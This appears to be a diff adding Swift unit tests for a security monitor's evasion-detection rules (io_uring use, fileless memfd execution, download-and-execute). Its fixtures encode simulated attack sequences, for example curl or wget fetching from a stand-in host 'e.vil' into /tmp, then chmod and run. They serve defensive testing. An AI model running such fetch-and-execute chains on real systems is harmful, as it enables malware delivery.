@@ -1,0 +1,56 @@
+import XCTest
+@testable import TetherCore
+
+/// Evasion rules.
+final class EvasionRuleTests: XCTestCase {
+    func testIoUring() {
+        check("evasion.io_uring", fire: [
+            R("io_uring_setup", E.simple(.ioUring, result: 5) { $0.entries = 64 }),
+        ], quiet: [
+            R("refused io_uring_setup", E.simple(.ioUring, result: -1)),
+            R("ordinary reads", E.open("/home/dev/proj/a.txt")),
+        ])
+    }
+
+    func testFileless() {
+        var deleted = E.exec("/tmp/x (deleted)", ["x"])
+        deleted.pathDeleted = true
+        check("evasion.fileless", fire: [
+            R("exec of a memfd", E.simple(.memfd, result: 3) { $0.name = "x" }, E.exec("/memfd:x (deleted)", ["x"])),
+            R("exec of a deleted file", deleted),
+        ], quiet: [
+            R("memfd without exec (JITs, wayland)", E.simple(.memfd, result: 3) { $0.name = "v8" }),
+            R("ordinary exec", E.exec("/usr/bin/ls", ["ls"])),
+        ])
+    }
+
+    func testDownloadExec() {
+        check("evasion.download_exec", fire: [
+            R("curl -o, chmod, run", E.exec("/usr/bin/curl", ["curl", "-o", "/tmp/x", "https://e.vil/x"], pid: 200),
+              E.connect("203.0.113.5", 443, pid: 200), E.write("/tmp/x", pid: 200), E.exit(200),
+              E.chmod("/tmp/x", 0o755), E.exec("/tmp/x", ["/tmp/x"], pid: 201)),
+            // The shell opens the redirect target before exec'ing curl in the same pid.
+            R("shell redirect, then curl in the same pid", E.write("/tmp/y.sh", pid: 200),
+              E.exec("/usr/bin/curl", ["curl", "https://e.vil/y"], pid: 200), E.connect("203.0.113.5", 443, pid: 200),
+              E.exec("/bin/sh", ["sh", "/tmp/y.sh"], pid: 201)),
+            R("relative script path", E.exec("/usr/bin/wget", ["wget", "https://e.vil/z"], pid: 200),
+              E.connect("203.0.113.5", 443, pid: 200), E.write("/tmp/z.py", pid: 200),
+              E.exec("/usr/bin/python3", ["python3", "z.py"], pid: 201, cwd: "/tmp")),
+            R("planted outside every writable root and chmodded", E.write("/opt/tool/run"), E.chmod("/opt/tool/run", 0o755),
+              E.exec("/opt/tool/run", ["run"], pid: 201)),
+            R("fetched, renamed, run", E.connect("203.0.113.5", 443, pid: 200), E.write("/tmp/dl.part", pid: 200),
+              E.rename("/tmp/dl.part", "/tmp/dl", pid: 200), E.exec("/tmp/dl", ["dl"], pid: 201)),
+        ], quiet: [
+            R("go run builds in /tmp and runs", E.write("/tmp/go-build1/b001/exe/main", pid: 200, mode: 0o755),
+              E.exec("/tmp/go-build1/b001/exe/main", ["main"], pid: 201)),
+            R("test writes a script to /tmp, chmods and runs it", E.write("/tmp/t/run.sh"), E.chmod("/tmp/t/run.sh", 0o755),
+              E.exec("/tmp/t/run.sh", ["/tmp/t/run.sh"], pid: 201)),
+            R("downloaded into the workspace and run", E.connect("203.0.113.5", 443, pid: 200),
+              E.write("/home/dev/proj/tools/x", pid: 200), E.exec("/home/dev/proj/tools/x", ["x"], pid: 201)),
+            R("downloaded, deleted, other file run", E.connect("203.0.113.5", 443, pid: 200), E.write("/tmp/a", pid: 200),
+              E.unlink("/tmp/a"), E.exec("/usr/bin/ls", ["ls"], pid: 201)),
+            R("python -c is not a script file", E.connect("203.0.113.5", 443, pid: 200), E.write("/tmp/a.py", pid: 200),
+              E.exec("/usr/bin/python3", ["python3", "-c", "print(1)"], pid: 201)),
+        ])
+    }
+}
